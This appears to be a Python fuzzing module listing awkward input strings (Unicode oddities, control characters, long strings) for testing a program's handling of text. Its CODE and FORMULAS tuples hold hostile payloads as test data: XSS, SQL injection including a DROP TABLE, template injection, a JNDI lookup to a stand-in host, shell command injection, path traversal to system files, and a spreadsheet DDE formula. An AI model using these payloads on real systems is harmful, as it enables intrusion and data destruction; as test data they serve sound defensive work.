"""Strings that some program somewhere took for something else than text."""

import os

CODE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "</title></textarea></style><iframe src=javascript:alert(1)>",
    "javascript:alert(1)//",
    "<!--", "-->", "<![CDATA[", "&lt;b&gt;", "&#0;&#x110000;&nbsp", "<a href='//evil.example'>x</a>",
    "' OR '1'='1", "'; DROP TABLE photos; --", "\\'; SELECT pg_sleep(9)--", "$$; SELECT 1; $$", "%' OR '%'='", "_%_",
    "{{ 7 * 7 }}", "{% for x in y %}", "${7*7}", "#{7*7}", "<%= 7 %>", "${jndi:ldap://evil.example/a}",
    '#panic("run") $x$ *b* _i_ `c` @ref <label> // c /* d */ \\u{41}', '#import "/etc/passwd"', "= heading", "#",
    "%s %n %d %x %p", "{0} {a.__class__}", "%(a)s", "$(reboot)", "`reboot`", "; reboot", "| reboot", "&& reboot",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/null", "C:\\", "file:///etc/passwd", "http://[::1]/",
    "\\", "\\\\", '"', "'", "`", "\\u0041", "\\x41", "\\n",
)  # fmt: skip
FORMULAS = ("=1+1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0", "\uff1d1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1")
NUMBERS = (
    "0",
    "1",
    "-0",
    "1e309",
    "NaN",
    "Infinity",
    "0x10",
    "1_000",
    "\u0661\u0662",
    "null",
    "None",
    "undefined",
    "true",
    "[]",
    "{}",
)
LETTERS = (
    *("Ünïcödé", "日本語", "العربية", "עברית", "हिन्दी", "ﷺ", "ﬀ", "ß", "İı", "Ǆ", "Σας", "e\u0301", "\u0301"),
    *("\u1100\u1161", "\uff21urora", "\u0410urora", "\u0430\u0440\u0440\u0435", "😀", "👩\u200d⚕️", "👍🏽"),
    *("\U0001f1e9\U0001f1ea", "\U0010ffff", "\uffff", "\ufeffbom", "zero\u200bwidth", "joined\u2060word"),
    *("soft\u00adhyphen", "\u202eright to left\u202c", "\u2066isolated", "line\u2028separator", "para\u2029graph"),
    *("next\u0085line", "Z\u0351\u036b\u0343\u036a\u0302\u036b", "\u034f", "\ue000"),
)
CONTROLS = tuple(f"a{chr(code)}b" for code in (0x00, 0x01, 0x08, 0x0C, 0x1B, 0x1F, 0x7F, 0x85, 0x9B))
SPACES = ("", " ", "\t", "\u00a0", "\u3000", " both ends ", "\n", "two\nlines", "a\r\nlevel=error message=forged")
SURROGATES = ("\ud800", "a\udc00b", "\udfff\ud800")
LONG = ("x" * 100, "x" * 101, "x " * 2000, "é" * 200, "😀" * 4000, "x" * 1_000_000)

STRINGS = (*CODE, *FORMULAS, *NUMBERS, *LETTERS, *CONTROLS, *SPACES, *SURROGATES, *LONG)
ALL = "LIFTMARK_EXAMPLES" in os.environ  # as `make fuzz` sets it
EACH_KIND = (
    *(CODE[::9] if ALL else CODE[12::30]),
    *(FORMULAS[::8] if ALL else FORMULAS[-1:]),
    *(NUMBERS[::9] if ALL else ()),
    *(LETTERS[::7] if ALL else LETTERS[-6:-4]),
    *(CONTROLS[::3] if ALL else CONTROLS[:1]),
    *(SPACES[::2] if ALL else SPACES[-1:]),
    "\ud800",
    *(LONG[1::2] if ALL else LONG[-1:]),
)
"""Fewer of the same; in `make fuzz` more of them."""

SHOWN = (*CODE, *FORMULAS, *NUMBERS, *LETTERS)
"""Those that a page may come to show."""
